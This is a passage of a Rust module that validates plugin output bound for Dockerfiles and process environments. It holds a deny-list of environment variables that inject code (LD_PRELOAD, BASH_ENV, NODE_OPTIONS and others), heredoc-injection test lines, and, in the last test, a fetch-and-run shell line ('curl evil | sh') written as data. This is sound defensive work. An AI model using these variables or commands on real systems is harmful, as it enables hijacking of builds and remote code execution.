//! Output rules. Hook results flow into Dockerfiles, shell scripts and
//! process environments, so every returned value is checked before it is
//! handed to the embedder.

use std::collections::BTreeSet;

use crate::types::ActionReport;

/// Environment variables no plugin may set by default, on top of
/// [`DENIED_ENV_VAR_PREFIXES`]: each makes a program load or run code the
/// value chooses, without the program asking for it. They come, family by
/// family, from the documentation of the dynamic loader, the shells and the
/// common language runtimes. Variables that a single tool reads when it runs
/// a helper (`EDITOR`, `PAGER`, `GIT_SSH_COMMAND`, `GIT_CONFIG_*`,
/// `IPYTHONDIR`, ...) are left out: that set has no end, and which ones
/// matter depends on the image, so embedders add them through
/// [`OutputRules::denied_env_vars`].
pub const DEFAULT_DENIED_ENV_VARS: &[&str] = &[
    // Executable search: POSIX.1-2024 XBD 8.3, "Other Environment Variables".
    "PATH",
    // glibc beyond the `LD_*` prefix. ld.so(8), "Secure-execution mode",
    // lists what the loader strips for set-user-ID programs; of those, only
    // GCONV_PATH loads code (iconv modules, iconv(3)). GLIBC_TUNABLES
    // configures the loader itself (glibc manual, "Tunables").
    "GCONV_PATH",
    "GLIBC_TUNABLES",
    // Shells. bash(1), INVOCATION: a non-interactive bash sources $BASH_ENV,
    // an interactive sh (dash, ksh, bash as sh) $ENV. bash(1), "Shell Variables"
    // and PROMPTING: PROMPT_COMMAND runs before each prompt, and PS0, PS1,
    // PS2 and PS4 (the `set -x` prefix) go through command substitution;
    // SHELLOPTS and BASHOPTS switch options on at start-up; `enable -f`
    // loads builtins from BASH_LOADABLES_PATH. POSIX `cd`: CDPATH moves a
    // script's `cd`, and with it every relative command after it; POSIX sh
    // lets a shell take IFS, which splits every unquoted expansion, from the
    // environment. zsh(1), STARTUP/SHUTDOWN FILES: every zsh sources
    // $ZDOTDIR/.zshenv. ksh(1): a command not found is looked up in FPATH.
    // Exported bash functions (`BASH_FUNC_name%%`) fail the name rule.
    "BASH_ENV",
    "ENV",
    "PROMPT_COMMAND",
    "PS0",
    "PS1",
    "PS2",
    "PS4",
    "SHELLOPTS",
    "BASHOPTS",
    "BASH_LOADABLES_PATH",
    "CDPATH",
    "IFS",
    "ZDOTDIR",
    "FPATH",
    // Python, "Command line and environment", "Environment variables": the
    // module search path (PYTHONPATH, PYTHONHOME, PYTHONPLATLIBDIR), code run
    // at the prompt or after the script (PYTHONSTARTUP, PYTHONINSPECT), the
    // user site directory whose `.pth` files run at start-up
    // (PYTHONUSERBASE), modules imported by name (PYTHONBREAKPOINT, the
    // categories in PYTHONWARNINGS) and where bytecode is read from
    // (PYTHONPYCACHEPREFIX).
    "PYTHONPATH",
    "PYTHONHOME",
    "PYTHONPLATLIBDIR",
    "PYTHONSTARTUP",
    "PYTHONINSPECT",
    "PYTHONUSERBASE",
    "PYTHONBREAKPOINT",
    "PYTHONWARNINGS",
    "PYTHONPYCACHEPREFIX",
    // Node.js, "Command-line API", "Environment variables": NODE_OPTIONS
    // takes `--require` and `--import`; NODE_PATH extends module search;
    // NODE_REPL_EXTERNAL_MODULE replaces the REPL with a module.
    "NODE_OPTIONS",
    "NODE_PATH",
    "NODE_REPL_EXTERNAL_MODULE",
    // Perl, perlrun(1), ENVIRONMENT: PERL5OPT takes `-M` and `-d`, PERL5LIB
    // and PERLLIB (read when PERL5LIB is unset) extend @INC, PERL5DB is the
    // debugger's code.
    "PERL5OPT",
    "PERL5LIB",
    "PERLLIB",
    "PERL5DB",
    // Ruby, ruby(1), ENVIRONMENT: RUBYOPT takes `-r`, RUBYLIB extends the
    // load path, `-S` looks scripts up in RUBYPATH.
    "RUBYOPT",
    "RUBYLIB",
    "RUBYPATH",
    // JVM. The JVM TI specification: every VM reads JAVA_TOOL_OPTIONS
    // (`-javaagent`). java(1): the launcher prepends JDK_JAVA_OPTIONS and
    // uses CLASSPATH when no `-cp` is given; HotSpot reads _JAVA_OPTIONS.
    // OpenJ9, "Specifying command-line options": OPENJ9_JAVA_OPTIONS and,
    // before it, IBM_JAVA_OPTIONS.
    "JAVA_TOOL_OPTIONS",
    "JDK_JAVA_OPTIONS",
    "_JAVA_OPTIONS",
    "CLASSPATH",
    "OPENJ9_JAVA_OPTIONS",
    "IBM_JAVA_OPTIONS",
    // .NET. dotnet/runtime docs/design/features/host-startup-hook.md: the
    // runtime calls the assemblies in DOTNET_STARTUP_HOOKS before Main;
    // additional-deps.md: the host resolves assemblies from the manifests in
    // DOTNET_ADDITIONAL_DEPS. "Runtime configuration options for debugging
    // and profiling": the ENABLE_PROFILING switches load a native profiler
    // (its GUID and path are prefix rules).
    "DOTNET_STARTUP_HOOKS",
    "DOTNET_ADDITIONAL_DEPS",
    "CORECLR_ENABLE_PROFILING",
    "DOTNET_ENABLE_PROFILING",
    // PHP manual, "The configuration file": PHPRC and PHP_INI_SCAN_DIR pick
    // the ini files, whose `auto_prepend_file` runs before every script.
    "PHPRC",
    "PHP_INI_SCAN_DIR",
    // R, `?Startup`: the environ and profile files R reads (the profiles are
    // R code); `?.libPaths`: the package library search path.
    "R_ENVIRON",
    "R_ENVIRON_USER",
    "R_PROFILE",
    "R_PROFILE_USER",
    "R_LIBS",
    "R_LIBS_USER",
    "R_LIBS_SITE",
    // Julia manual, "Environment Variables": the depot holds
    // `config/startup.jl`, run at every start; the load path finds packages.
    "JULIA_DEPOT_PATH",
    "JULIA_LOAD_PATH",
];

/// Name prefixes no plugin may use, for families whose documentation names
/// variables by pattern.
pub const DENIED_ENV_VAR_PREFIXES: &[&str] = &[
    // ld.so(8), ENVIRONMENT: every variable the glibc loader reads starts
    // with `LD_`, and musl's loader reads LD_PRELOAD and LD_LIBRARY_PATH.
    "LD_",
    // dyld(1), ENVIRONMENT: likewise `DYLD_` on macOS.
    "DYLD_",
    // Lua 5.4 reference manual, §7 (LUA_INIT runs before the script) and §6.3
    // (package.path, package.cpath): each is read as `NAME_5_4` before
    // `NAME`, a suffix per release.
    "LUA_INIT",
    "LUA_PATH",
    "LUA_CPATH",
    // .NET "debugging and profiling": the profiler's GUID and path, one
    // suffix per architecture, under both prefixes.
    "CORECLR_PROFILER",
    "DOTNET_PROFILER",
];

/// Dockerfile instructions a plugin may emit. `FROM` is the host's: a plugin
/// starting a new stage would silently discard everything before it.
pub const ALLOWED_DOCKERFILE_INSTRUCTIONS: &[&str] = &[
    "ADD",
    "ARG",
    "CMD",
    "COPY",
    "ENTRYPOINT",
    "ENV",
    "EXPOSE",
    "HEALTHCHECK",
    "LABEL",
    "ONBUILD",
    "RUN",
    "SHELL",
    "STOPSIGNAL",
    "USER",
    "VOLUME",
    "WORKDIR",
];

/// Rules applied to hook results. Embedders may tighten or extend them.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct OutputRules {
    /// Environment variable names plugins may not set (exact, case-sensitive).
    pub denied_env_vars: BTreeSet<String>,
    /// Longest environment variable name.
    pub max_env_name_bytes: usize,
    /// Longest environment variable value.
    pub max_env_value_bytes: usize,
    /// Most environment variables from one plugin.
    pub max_env_vars: usize,
    /// Most Dockerfile instructions from one plugin.
    pub max_dockerfile_lines: usize,
    /// Longest Dockerfile instruction.
    pub max_dockerfile_line_bytes: usize,
    /// Largest bootstrap script.
    pub max_script_bytes: usize,
    /// Longest action report summary.
    pub max_summary_bytes: usize,
    /// Largest Markdown documentation (Racetrack `markdown_docs`) or whole
    /// Dockerfile (a rendered job-type template).
    pub max_document_bytes: usize,
    /// Limits and allow-lists for declarative resources.
    pub resources: crate::resources::ResourceRules,
}

impl Default for OutputRules {
    fn default() -> Self {
        OutputRules {
            denied_env_vars: DEFAULT_DENIED_ENV_VARS.iter().map(|s| s.to_string()).collect(),
            max_env_name_bytes: 256,
            max_env_value_bytes: 32 * 1024,
            max_env_vars: 4_096,
            max_dockerfile_lines: 10_000,
            max_dockerfile_line_bytes: 64 * 1024,
            max_script_bytes: 2 * 1024 * 1024,
            max_summary_bytes: 4 * 1024,
            max_document_bytes: 256 * 1024,
            resources: crate::resources::ResourceRules::default(),
        }
    }
}

fn show(text: &str) -> String {
    crate::sanitize::for_terminal(text, 80)
}

/// Which output rule a hook result broke. The message names the rule and
/// what the plugin should return instead.
///
/// Text taken from the result (a Dockerfile line, a variable name) is kept
/// sanitised and shortened, as the message shows it: the raw value can be
/// megabytes of anything.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[non_exhaustive]
pub enum OutputProblem {
    /// More Dockerfile instructions than [`OutputRules::max_dockerfile_lines`].
    #[error("{count} Dockerfile lines; the limit is {limit}")]
    TooManyDockerfileLines {
        /// Lines returned.
        count: usize,
        /// Limit in force.
        limit: usize,
    },
    /// A Dockerfile line longer than [`OutputRules::max_dockerfile_line_bytes`].
    #[error("Dockerfile line {line} `{text}` is {bytes} bytes; the limit is {limit}")]
    DockerfileLineTooLong {
        /// 1-based position of the line in the result.
        line: usize,
        /// The line, sanitised and shortened.
        text: String,
        /// Its length.
        bytes: usize,
        /// Limit in force.
        limit: usize,
    },
    /// A line break or another control character (tab aside) in a
    /// Dockerfile line, which would start a second instruction.
    #[error(
        "Dockerfile line {line} `{text}` contains a line break or control character; return one instruction per list item"
    )]
    DockerfileLineBreak {
        /// 1-based position of the line in the result.
        line: usize,
        /// The line, sanitised and shortened.
        text: String,
    },
    /// A Dockerfile line that is empty or blank.
    #[error("Dockerfile line {line} `{text}` is empty")]
    EmptyDockerfileLine {
        /// 1-based position of the line in the result.
        line: usize,
        /// The line, sanitised and shortened.
        text: String,
    },
    /// A parser directive (`# syntax=`, `# escape=`, `# check=`).
    #[error("Dockerfile line {line} `{text}` is a parser directive; only the host sets those")]
    ParserDirective {
        /// 1-based position of the line in the result.
        line: usize,
        /// The line, sanitised and shortened.
        text: String,
    },
    /// A line ending in `\` or `` ` ``, which joins the next instruction to it.
    #[error("Dockerfile line {line} `{text}` ends with a line continuation, which would swallow the next instruction")]
    LineContinuation {
        /// 1-based position of the line in the result.
        line: usize,
        /// The line, sanitised and shortened.
        text: String,
    },
    /// `<<` anywhere in the line: BuildKit may read a heredoc opener there.
    #[error(
        "Dockerfile line {line} `{text}` contains `<<`, which BuildKit may read as a word that opens a heredoc and \
         swallows the next lines"
    )]
    Heredoc {
        /// 1-based position of the line in the result.
        line: usize,
        /// The line, sanitised and shortened.
        text: String,
    },
    /// A `FROM` line: the host writes the only one.
    #[error("Dockerfile line {line} `{text}` starts a new build stage; the host writes FROM, plugins add instructions")]
    NewBuildStage {
        /// 1-based position of the line in the result.
        line: usize,
        /// The line, sanitised and shortened.
        text: String,
    },
    /// A line whose first word is not in [`ALLOWED_DOCKERFILE_INSTRUCTIONS`].
    #[error(
        "Dockerfile line {line} `{text}` does not start with a Dockerfile instruction (one of {})",
        ALLOWED_DOCKERFILE_INSTRUCTIONS.join(", ")
    )]
    UnknownInstruction {
        /// 1-based position of the line in the result.
        line: usize,
        /// The line, sanitised and shortened.
        text: String,
    },
    /// More variables than [`OutputRules::max_env_vars`].
    #[error("{count} environment variables; the limit is {limit}")]
    TooManyEnvVars {
        /// Variables returned.
        count: usize,
        /// Limit in force.
        limit: usize,
    },
    /// A name that is empty or longer than [`OutputRules::max_env_name_bytes`].
    #[error("environment variable name `{name}` must be 1 to {limit} bytes long")]
    EnvNameLength {
        /// The name, sanitised and shortened.
        name: String,
        /// Limit in force.
        limit: usize,
    },
    /// A name outside `^[A-Za-z_][A-Za-z0-9_]*$`.
    #[error("environment variable name `{name}` must match ^[A-Za-z_][A-Za-z0-9_]*$")]
    BadEnvName {
        /// The name, sanitised and shortened.
        name: String,
    },
    /// A name on [`OutputRules::denied_env_vars`] or with a prefix in
    /// [`DENIED_ENV_VAR_PREFIXES`].
    #[error("environment variable name `{name}` is on the deny-list of variables that change how programs load code")]
    DeniedEnvName {
        /// The name.
        name: String,
    },
    /// A value longer than [`OutputRules::max_env_value_bytes`].
    #[error("environment variable `{name}` has a {bytes}-byte value; the limit is {limit}")]
    EnvValueTooLarge {
        /// The variable's name.
        name: String,
        /// The value's length.
        bytes: usize,
        /// Limit in force.
        limit: usize,
    },
    /// A NUL, CR or LF in a value.
    #[error("environment variable `{name}` has a NUL or line break in its value")]
    EnvValueLineBreak {
        /// The variable's name.
        name: String,
    },
    /// The same name twice in one plugin's result.
    #[error("environment variable `{name}` is set twice; return each name once")]
    DuplicateEnvVar {
        /// The name.
        name: String,
    },
    /// A script longer than [`OutputRules::max_script_bytes`].
    #[error("bootstrap script is {bytes} bytes; the limit is {limit}")]
    ScriptTooLarge {
        /// The script's length.
        bytes: usize,
        /// Limit in force.
        limit: usize,
    },
    /// A NUL byte in a bootstrap script.
    #[error("bootstrap script contains a NUL byte")]
    ScriptNul,
    /// A summary longer than [`OutputRules::max_summary_bytes`].
    #[error("report summary is {bytes} bytes; the limit is {limit}")]
    SummaryTooLarge {
        /// The summary's length.
        bytes: usize,
        /// Limit in force.
        limit: usize,
    },
    /// A NUL byte in a report's summary or details.
    #[error("report contains a NUL byte")]
    ReportNul,
    /// A declarative resource the host refuses.
    #[error("resource {index}: {problem}")]
    Resource {
        /// 1-based position of the resource in the result (0: the list itself).
        index: usize,
        /// What is wrong with it.
        problem: crate::resources::ResourceProblem,
    },
    /// A document (Markdown, a whole Dockerfile) over [`OutputRules::max_document_bytes`].
    #[error("{what} is {bytes} bytes; the limit is {limit}")]
    DocumentTooLarge {
        /// What the document is.
        what: String,
        /// Its size.
        bytes: usize,
        /// Limit in force.
        limit: usize,
    },
    /// A NUL byte in a document.
    #[error("{what} contains a NUL byte")]
    DocumentNul {
        /// What the document is.
        what: String,
    },
    /// A whole Dockerfile whose first instruction is not `FROM` (or `ARG`).
    #[error("{what} does not start with FROM (or ARG before it)")]
    NoFrom {
        /// What the Dockerfile is.
        what: String,
    },
    /// A job type or target listed wrongly.
    #[error("{what} `{name}` {problem}")]
    Listing {
        /// What is listed (`job type`, `infrastructure target`).
        what: &'static str,
        /// Its name, sanitised.
        name: String,
        /// What is wrong and what to return.
        problem: &'static str,
    },
    /// A file named in a result that the bundle does not ship.
    #[error(transparent)]
    BundleFile(crate::resources::ResourceProblem),
}

impl OutputRules {
    /// Checks Dockerfile instructions from one plugin.
    pub fn check_dockerfile_lines(&self, lines: &[String]) -> Result<(), OutputProblem> {
        if lines.len() > self.max_dockerfile_lines {
            return Err(OutputProblem::TooManyDockerfileLines { count: lines.len(), limit: self.max_dockerfile_lines });
        }
        for (index, line) in lines.iter().enumerate() {
            self.check_dockerfile_line(index + 1, line)?;
        }
        Ok(())
    }

    /// Checks the line at 1-based position `number`.
    fn check_dockerfile_line(&self, number: usize, line: &str) -> Result<(), OutputProblem> {
        // Sanitised only on the way out: this runs for every line of every call.
        let text = || show(line);
        if line.len() > self.max_dockerfile_line_bytes {
            return Err(OutputProblem::DockerfileLineTooLong {
                line: number,
                text: text(),
                bytes: line.len(),
                limit: self.max_dockerfile_line_bytes,
            });
        }
        if line.chars().any(|c| c.is_control() && c != '\t') {
            return Err(OutputProblem::DockerfileLineBreak { line: number, text: text() });
        }
        let trimmed = line.trim();
        if trimmed.is_empty() {
            return Err(OutputProblem::EmptyDockerfileLine { line: number, text: text() });
        }
        if let Some(comment) = trimmed.strip_prefix('#') {
            let directive = comment.trim_start().to_ascii_lowercase();
            if ["syntax", "escape", "check"]
                .iter()
                .any(|d| directive.strip_prefix(d).is_some_and(|rest| rest.trim_start().starts_with('=')))
            {
                return Err(OutputProblem::ParserDirective { line: number, text: text() });
            }
            return Ok(());
        }
        if trimmed.ends_with('\\') || trimmed.ends_with('`') {
            return Err(OutputProblem::LineContinuation { line: number, text: text() });
        }
        if has_heredoc(trimmed) {
            return Err(OutputProblem::Heredoc { line: number, text: text() });
        }
        let keyword = trimmed.split_whitespace().next().unwrap_or_default().to_ascii_uppercase();
        if keyword == "FROM" {
            return Err(OutputProblem::NewBuildStage { line: number, text: text() });
        }
        if !ALLOWED_DOCKERFILE_INSTRUCTIONS.contains(&keyword.as_str()) {
            return Err(OutputProblem::UnknownInstruction { line: number, text: text() });
        }
        Ok(())
    }

    /// Checks a text document (Markdown docs): size and NUL bytes.
    pub fn check_document(&self, what: &str, text: &str) -> Result<(), OutputProblem> {
        if text.len() > self.max_document_bytes {
            return Err(OutputProblem::DocumentTooLarge {
                what: what.to_string(),
                bytes: text.len(),
                limit: self.max_document_bytes,
            });
        }
        if text.contains('\0') {
            return Err(OutputProblem::DocumentNul { what: what.to_string() });
        }
        Ok(())
    }

    /// Checks a whole Dockerfile (a rendered job-type template): a
    /// document whose first instruction is `FROM` (after `ARG`s), with no
    /// heredoc anywhere (the same rule as for injected lines).
    pub fn check_whole_dockerfile(&self, what: &str, text: &str) -> Result<(), OutputProblem> {
        self.check_document(what, text)?;
        for (number, line) in text.lines().enumerate() {
            if !line.trim_start().starts_with('#') && has_heredoc(line) {
                return Err(OutputProblem::Heredoc { line: number + 1, text: show(line) });
            }
        }
        let first = text
            .lines()
            .map(str::trim)
            .filter(|line| !line.is_empty() && !line.starts_with('#'))
            .map(|line| line.split_whitespace().next().unwrap_or_default().to_ascii_uppercase())
            .find(|keyword| keyword != "ARG");
        if first.as_deref() == Some("FROM") {
            return Ok(());
        }
        Err(OutputProblem::NoFrom { what: what.to_string() })
    }

    /// Checks environment variables from one plugin.
    pub fn check_env_vars(&self, vars: &[(String, String)]) -> Result<(), OutputProblem> {
        if vars.len() > self.max_env_vars {
            return Err(OutputProblem::TooManyEnvVars { count: vars.len(), limit: self.max_env_vars });
        }
        for (name, value) in vars {
            self.check_env_name(name)?;
            if value.len() > self.max_env_value_bytes {
                return Err(OutputProblem::EnvValueTooLarge {
                    name: name.clone(),
                    bytes: value.len(),
                    limit: self.max_env_value_bytes,
                });
            }
            if value.contains(['\0', '\n', '\r']) {
                return Err(OutputProblem::EnvValueLineBreak { name: name.clone() });
            }
        }
        // Sorting a few borrowed names is cheaper than hashing them; this
        // runs on every call, so it shows in the warm-call profile.
        let mut names: Vec<&str> = vars.iter().map(|(name, _)| name.as_str()).collect();
        names.sort_unstable();
        if let Some(pair) = names.windows(2).find(|pair| pair[0] == pair[1]) {
            return Err(OutputProblem::DuplicateEnvVar { name: pair[0].to_string() });
        }
        Ok(())
    }

    fn check_env_name(&self, name: &str) -> Result<(), OutputProblem> {
        if name.is_empty() || name.len() > self.max_env_name_bytes {
            return Err(OutputProblem::EnvNameLength { name: show(name), limit: self.max_env_name_bytes });
        }
        let mut chars = name.chars();
        let first_ok = chars.next().is_some_and(|c| c.is_ascii_alphabetic() || c == '_');
        if !first_ok || !chars.all(|c| c.is_ascii_alphanumeric() || c == '_') {
            return Err(OutputProblem::BadEnvName { name: show(name) });
        }
        if self.denied_env_vars.contains(name) || DENIED_ENV_VAR_PREFIXES.iter().any(|p| name.starts_with(p)) {
            return Err(OutputProblem::DeniedEnvName { name: show(name) });
        }
        Ok(())
    }

    /// Checks a bootstrap script.
    pub fn check_script(&self, script: &str) -> Result<(), OutputProblem> {
        if script.len() > self.max_script_bytes {
            return Err(OutputProblem::ScriptTooLarge { bytes: script.len(), limit: self.max_script_bytes });
        }
        if script.contains('\0') {
            return Err(OutputProblem::ScriptNul);
        }
        Ok(())
    }

    /// Checks a deploy/destroy report.
    pub fn check_report(&self, report: &ActionReport) -> Result<(), OutputProblem> {
        if report.summary.len() > self.max_summary_bytes {
            return Err(OutputProblem::SummaryTooLarge { bytes: report.summary.len(), limit: self.max_summary_bytes });
        }
        let texts = std::iter::once(&report.summary).chain(report.details.iter().flat_map(|(k, v)| [k, v]));
        for text in texts {
            if text.contains('\0') {
                return Err(OutputProblem::ReportNul);
            }
        }
        Ok(())
    }
}

/// Whether BuildKit could read a heredoc opener in the line.
///
/// The grammar is BuildKit's `frontend/dockerfile/parser/parser.go`: `Parse`
/// looks for heredocs only in an ADD, COPY or RUN line (ONBUILD included,
/// any case, shell form) that contains `<<`. `heredocsFromLine` then splits
/// the line into words with `shell/lex.go` (quotes and escapes kept, unset
/// variables left as written, `<<` and the blanks after it kept in one word)
/// and every word matching `reHeredoc`, `^(\d*)<<(-?)\s*([^<]*)$`, whose
/// rest lexes to one word opens a heredoc. The lexer's quirks widen that
/// regex: Unicode spaces split words, and `${X:- <\<EOF}` drops the escape,
/// so it yields the word `<<EOF}` with no `<<` in the source. A narrower
/// check would have to reproduce the lexer byte for byte, and a miss lets a
/// plugin swallow the lines after it, so this refuses every line that passes
/// BuildKit's first test, in every instruction, as the allowed set may grow.
/// Comments never reach it: the parser drops them before looking.
fn has_heredoc(line: &str) -> bool {
    line.contains("<<")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn dockerfile_rules() {
        let rules = OutputRules::default();
        let check = |line: &str| rules.check_dockerfile_lines(&["RUN first".to_string(), line.to_string()]);
        assert!(check("RUN echo hi").is_ok());
        assert!(check("# a comment").is_ok());
        let text = |line: &str| show(line);
        assert_eq!(
            check("RUN a\nRUN b"),
            Err(OutputProblem::DockerfileLineBreak { line: 2, text: text("RUN a\nRUN b") })
        );
        assert_eq!(check("RUN a \\"), Err(OutputProblem::LineContinuation { line: 2, text: "RUN a \\".into() }));
        assert_eq!(check("RUN <<EOF"), Err(OutputProblem::Heredoc { line: 2, text: "RUN <<EOF".into() }));
        assert!(matches!(check("# syntax=docker/dockerfile:1"), Err(OutputProblem::ParserDirective { .. })));
        assert!(matches!(check("#escape=`"), Err(OutputProblem::ParserDirective { .. })));
        assert!(matches!(check("FROM alpine"), Err(OutputProblem::NewBuildStage { line: 2, .. })));
        assert!(matches!(check("echo hi"), Err(OutputProblem::UnknownInstruction { line: 2, .. })));
        assert!(matches!(check("  "), Err(OutputProblem::EmptyDockerfileLine { line: 2, .. })));
        let long = format!("RUN {}", "x".repeat(rules.max_dockerfile_line_bytes));
        assert!(matches!(check(&long), Err(OutputProblem::DockerfileLineTooLong { bytes, .. }) if bytes == long.len()));
        let many = vec!["RUN x".to_string(); rules.max_dockerfile_lines + 1];
        assert_eq!(
            rules.check_dockerfile_lines(&many),
            Err(OutputProblem::TooManyDockerfileLines { count: 10_001, limit: 10_000 })
        );
    }

    #[test]
    fn problems_read_as_the_rule_and_what_to_return() {
        let rules = OutputRules::default();
        let dockerfile = |line: &str| rules.check_dockerfile_lines(&[line.to_string()]).unwrap_err().to_string();
        assert_eq!(
            dockerfile("RUN a\nRUN b"),
            "Dockerfile line 1 `RUN a\\nRUN b` contains a line break or control character; return one instruction \
             per list item"
        );
        assert_eq!(
            dockerfile("RUN cat <<EOF"),
            "Dockerfile line 1 `RUN cat <<EOF` contains `<<`, which BuildKit may read as a word that opens a heredoc \
             and swallows the next lines"
        );
        assert_eq!(dockerfile(" "), "Dockerfile line 1 ` ` is empty");
        assert!(
            dockerfile("echo")
                .starts_with("Dockerfile line 1 `echo` does not start with a Dockerfile instruction (one of ADD, ARG,")
        );
        let env = |name: &str, value: &str| {
            rules.check_env_vars(&[(name.to_string(), value.to_string())]).unwrap_err().to_string()
        };
        assert_eq!(env("", "x"), "environment variable name `` must be 1 to 256 bytes long");
        assert_eq!(env("A-B", "x"), "environment variable name `A-B` must match ^[A-Za-z_][A-Za-z0-9_]*$");
        assert_eq!(
            env("LD_PRELOAD", "x"),
            "environment variable name `LD_PRELOAD` is on the deny-list of variables that change how programs load code"
        );
        assert_eq!(
            env("A", &"x".repeat(40_000)),
            "environment variable `A` has a 40000-byte value; the limit is 32768"
        );
        assert_eq!(env("A", "a\0b"), "environment variable `A` has a NUL or line break in its value");
        assert_eq!(rules.check_script("a\0b").unwrap_err().to_string(), "bootstrap script contains a NUL byte");
        assert_eq!(
            rules.check_script(&"x".repeat(3 << 20)),
            Err(OutputProblem::ScriptTooLarge { bytes: 3 << 20, limit: 2 << 20 })
        );
        let report = |summary: &str, details: &[(&str, &str)]| ActionReport {
            summary: summary.into(),
            details: details.iter().map(|(k, v)| (k.to_string(), v.to_string())).collect(),
            resources: Vec::new(),
        };
        assert_eq!(rules.check_report(&report("ok", &[("k", "a\0")])), Err(OutputProblem::ReportNul));
        assert_eq!(
            rules.check_report(&report(&"s".repeat(5_000), &[])).unwrap_err().to_string(),
            "report summary is 5000 bytes; the limit is 4096"
        );
    }

    #[test]
    fn every_heredoc_opener_buildkit_accepts_is_refused() {
        let rules = OutputRules::default();
        let openers = [
            "RUN <<EOF",
            "RUN <<-EOF",
            "RUN <<\"EOF\"",
            "RUN <<'EOF'",
            "RUN <<-'EOF'",
            "RUN <<E\"O\"F",
            "RUN <<\\EOF",
            // The lexer keeps blanks after `<<` in the word, and the regex allows them.
            "RUN << EOF",
            "RUN <<\tEOF",
            // A file descriptor before `<<`, and words the regex allows that aren't names.
            "RUN 3<<EOF",
            "RUN <<123",
            "RUN <<$X",
            "RUN <<EOF.txt",
            "RUN <<}",
            "RUN cat <<EOF >out",
            "RUN cat <<EOF | sh",
            // Attached to other text: not a heredoc to BuildKit, but one to the shell it hands the line to.
            "RUN cat<<EOF",
            "RUN echo x;cat<<EOF",
            "COPY <<A <<B /dst/",
            "RUN <<A cat - <<B",
            "run <<EOF",
            "copy <<EOF /etc/motd",
            "add <<EOF /etc/motd",
            "onbuild run <<EOF",
            "ONBUILD COPY <<EOF /x",
            // Shell form, whatever it looks like: a line that fails to parse as JSON falls back to it.
            "RUN [\"sh\", \"-c\", \"cat <<EOF\"",
            "RUN [\"sh\", \"-c\", \"cat <<EOF\"]",
            // BuildKit splits words on Unicode spaces.
            "RUN echo\u{a0}<<EOF",
            "RUN echo\u{2003}<<EOF",
            // `${X:-...}` drops the escape, so the second word is `<<EOF}`; `<<` elsewhere on the line
            // is what makes BuildKit look.
            "RUN echo \"<<\" ${X:- <\\<EOF}",
            "ENV A=<<EOF",
        ];
        for opener in openers {
            let error = rules.check_dockerfile_lines(&[opener.to_string()]).expect_err(opener);
            assert!(matches!(error, OutputProblem::Heredoc { line: 1, .. }), "{opener}: {error}");
        }
        for fine in ["RUN cat < input.txt", "RUN echo a '<' b", "RUN test 1 -lt 2", "# see <<EOF in the docs"] {
            assert!(rules.check_dockerfile_lines(&[fine.to_string()]).is_ok(), "{fine}");
        }
    }

    #[test]
    fn env_rules() {
        let rules = OutputRules::default();
        let check = |name: &str, value: &str| rules.check_env_vars(&[(name.to_string(), value.to_string())]);
        assert!(check("API_URL", "http://x").is_ok());
        assert_eq!(check("LD_PRELOAD", "/x.so"), Err(OutputProblem::DeniedEnvName { name: "LD_PRELOAD".into() }));
        assert!(matches!(check("LD_ANYTHING", "x"), Err(OutputProblem::DeniedEnvName { .. })));
        assert_eq!(check("1ABC", "x"), Err(OutputProblem::BadEnvName { name: "1ABC".into() }));
        assert!(matches!(check("A-B", "x"), Err(OutputProblem::BadEnvName { .. })));
        assert_eq!(check("A", "x\ny"), Err(OutputProblem::EnvValueLineBreak { name: "A".into() }));
        assert!(matches!(check(&"A".repeat(257), "x"), Err(OutputProblem::EnvNameLength { limit: 256, .. })));
        let twice = [("A".to_string(), "1".to_string()), ("A".to_string(), "2".to_string())];
        assert_eq!(
            rules.check_env_vars(&twice).unwrap_err().to_string(),
            "environment variable `A` is set twice; return each name once"
        );
        let many: Vec<(String, String)> = (0..=rules.max_env_vars).map(|i| (format!("V{i}"), String::new())).collect();
        assert_eq!(rules.check_env_vars(&many), Err(OutputProblem::TooManyEnvVars { count: 4_097, limit: 4_096 }));
    }

    #[test]
    fn every_family_on_the_env_deny_list_is_denied() {
        let rules = OutputRules::default();
        let check = |name: &str| rules.check_env_vars(&[(name.to_string(), "x".to_string())]);
        let families = [
            ("executable search", "PATH"),
            ("glibc and musl loader", "LD_PRELOAD LD_LIBRARY_PATH LD_AUDIT LD_BIND_NOW LD_DEBUG_OUTPUT"),
            ("glibc, beyond the loader", "GCONV_PATH GLIBC_TUNABLES"),
            ("macOS dyld", "DYLD_INSERT_LIBRARIES DYLD_FRAMEWORK_PATH"),
            ("bash and sh", "BASH_ENV ENV PROMPT_COMMAND PS0 PS1 PS2 PS4 SHELLOPTS BASHOPTS BASH_LOADABLES_PATH"),
            ("POSIX sh, zsh, ksh", "CDPATH IFS ZDOTDIR FPATH"),
            ("Python", "PYTHONPATH PYTHONHOME PYTHONPLATLIBDIR PYTHONSTARTUP PYTHONINSPECT PYTHONUSERBASE"),
            ("Python imports", "PYTHONBREAKPOINT PYTHONWARNINGS PYTHONPYCACHEPREFIX"),
            ("Node.js", "NODE_OPTIONS NODE_PATH NODE_REPL_EXTERNAL_MODULE"),
            ("Perl", "PERL5OPT PERL5LIB PERLLIB PERL5DB"),
            ("Ruby", "RUBYOPT RUBYLIB RUBYPATH"),
            ("JVM", "JAVA_TOOL_OPTIONS JDK_JAVA_OPTIONS _JAVA_OPTIONS CLASSPATH OPENJ9_JAVA_OPTIONS IBM_JAVA_OPTIONS"),
            (".NET", "DOTNET_STARTUP_HOOKS DOTNET_ADDITIONAL_DEPS CORECLR_ENABLE_PROFILING DOTNET_ENABLE_PROFILING"),
            (".NET profiler", "CORECLR_PROFILER CORECLR_PROFILER_PATH_64 DOTNET_PROFILER_PATH"),
            ("PHP", "PHPRC PHP_INI_SCAN_DIR"),
            ("R", "R_ENVIRON R_ENVIRON_USER R_PROFILE R_PROFILE_USER R_LIBS R_LIBS_USER R_LIBS_SITE"),
            ("Julia", "JULIA_DEPOT_PATH JULIA_LOAD_PATH"),
            ("Lua", "LUA_INIT LUA_INIT_5_4 LUA_PATH LUA_PATH_5_3 LUA_CPATH LUA_CPATH_5_4"),
        ];
        for (family, names) in families {
            for name in names.split_whitespace() {
                let error = check(name).expect_err(name);
                assert!(matches!(error, OutputProblem::DeniedEnvName { .. }), "{family}: {name}: {error}");
            }
        }
        // An exported bash function's name ends in `%%`, which the name rule refuses.
        let function = [("BASH_FUNC_ls%%".to_string(), "() { curl evil | sh; }".to_string())];
